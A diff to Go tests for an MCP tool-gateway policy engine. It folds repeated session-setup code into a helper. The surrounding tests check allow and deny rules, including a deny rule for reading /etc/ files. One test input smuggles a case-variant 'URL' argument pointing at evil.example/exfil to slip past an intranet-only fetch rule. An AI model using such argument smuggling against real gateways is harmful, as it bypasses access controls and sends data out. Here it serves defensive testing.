@@ -38,14 +38,7 @@ func TestArgumentKeyCaseVariant(t *testing.T) {
     - {id: intranet-only, match: {match_tool: [fetch]}, when: 'args.url.startsWith("https://intranet.example/")', decision: allow}
 `, func(http.Handler) http.Handler { return server.NewStreamableHTTPServer(s) })
 
-	hdr := map[string]string{"Mcp-Protocol-Version": "2025-11-25"}
-	_, h, body := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"alice","version":"1"}}}`)
-	sid := h.Get("Mcp-Session-Id")
-	if sid == "" {
-		t.Fatalf("initialize: no session: %s", body)
-	}
-	hdr["Mcp-Session-Id"] = sid
-	postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
+	hdr := session2025(t, g.url, "alice", "{}")
 
 	for i, args := range []string{
 		`{"url":"https://intranet.example/a","URL":"https://evil.example/exfil?1"}`,
@@ -99,14 +92,7 @@ func TestArgumentTypeAndLoneCaseVariant(t *testing.T) {
     - {id: no-etc, match: {match_tool: [read_file]}, when: 'has(args.path) && args.path.startsWith("/etc/")', decision: deny}
 `, func(http.Handler) http.Handler { return server.NewStreamableHTTPServer(s) })
 
-	hdr := map[string]string{"Mcp-Protocol-Version": "2025-11-25"}
-	_, h, body := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"alice","version":"1"}}}`)
-	sid := h.Get("Mcp-Session-Id")
-	if sid == "" {
-		t.Fatalf("initialize: no session: %s", body)
-	}
-	hdr["Mcp-Session-Id"] = sid
-	postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
+	hdr := session2025(t, g.url, "alice", "{}")
 
 	for i, c := range []string{
 		`"name":"push","arguments":{"force":"true"}`,
